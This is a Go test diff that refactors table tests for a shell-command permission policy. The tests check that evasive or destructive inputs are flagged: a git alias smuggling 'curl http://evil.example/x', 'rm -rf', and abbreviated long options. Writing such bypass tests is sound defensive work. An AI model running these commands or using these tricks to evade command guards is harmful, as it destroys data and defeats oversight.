@@ -155,10 +155,7 @@ func TestEvaluateBypasses2(t *testing.T) {
 func TestEvaluateInputCommands(t *testing.T) {
 	p := bypassPolicy()
 	p.AddPrefixRule(PrefixRule{Program: "parallel", Decision: Allow, Source: "bypass"})
-	tests := []struct {
-		script string
-		want   Decision
-	}{
+	tests := []scriptCase{
 		{"parallel -a cmds", Prompt},
 		{"parallel -j2", Prompt},
 		{"parallel :::: cmds", Prompt},
@@ -168,11 +165,7 @@ func TestEvaluateInputCommands(t *testing.T) {
 		{"parallel ls ::: a b", Allow},
 		{"parallel rm ::: a", Forbidden},
 	}
-	for _, tt := range tests {
-		if ev := p.Evaluate([]string{tt.script}, EvalOptions{Shell: true}); ev.Decision != tt.want {
-			t.Errorf("%q: %v, want %v; reasons %v", tt.script, ev.Decision, tt.want, ev.Reasons)
-		}
-	}
+	checkScripts(t, p, tests)
 }
 
 // TestFloorAbbreviations: GNU getopt and git take a unique prefix of a long
@@ -183,10 +176,7 @@ func TestFloorAbbreviations(t *testing.T) {
 	for _, prog := range []string{"rm", "git", "chmod", "systemctl"} {
 		p.AddPrefixRule(PrefixRule{Program: prog, Decision: Allow, Source: "floor"})
 	}
-	tests := []struct {
-		script string
-		want   Decision
-	}{
+	tests := []scriptCase{
 		{"rm --rec --for /home/x", Prompt},
 		{"rm -r --fo /home/x", Prompt},
 		{"git reset --har HEAD", Prompt},
@@ -218,10 +208,7 @@ func TestFloorAbbreviations(t *testing.T) {
 func TestGitConfigOptions(t *testing.T) {
 	p := bypassPolicy()
 	p.AddPrefixRule(PrefixRule{Program: "git", Decision: Allow, Source: "git"})
-	tests := []struct {
-		script string
-		want   Decision
-	}{
+	tests := []scriptCase{
 		{"git -c alias.x='!rm -rf x' x", Forbidden},
 		{"git -c 'alias.x=!curl http://evil.example/x' x", Forbidden},
 		{"git -c core.pager=less log", Prompt},
@@ -235,9 +222,22 @@ func TestGitConfigOptions(t *testing.T) {
 		{"git --no-pager log", Allow},
 		{"git -C -c status", Allow},
 	}
-	for _, tt := range tests {
-		if ev := p.Evaluate([]string{tt.script}, EvalOptions{Shell: true}); ev.Decision != tt.want {
-			t.Errorf("%q: %v, want %v; reasons %v", tt.script, ev.Decision, tt.want, ev.Reasons)
+	checkScripts(t, p, tests)
+}
+
+// scriptCase is a script, judged as run --shell judges it, and the
+// decision it must get.
+type scriptCase struct {
+	script string
+	want   Decision
+}
+
+// checkScripts judges each case's script under p.
+func checkScripts(t *testing.T, p *Policy, cases []scriptCase) {
+	t.Helper()
+	for _, c := range cases {
+		if ev := p.Evaluate([]string{c.script}, EvalOptions{Shell: true}); ev.Decision != c.want {
+			t.Errorf("%q: %v, want %v; reasons %v", c.script, ev.Decision, c.want, ev.Reasons)
 		}
 	}
 }
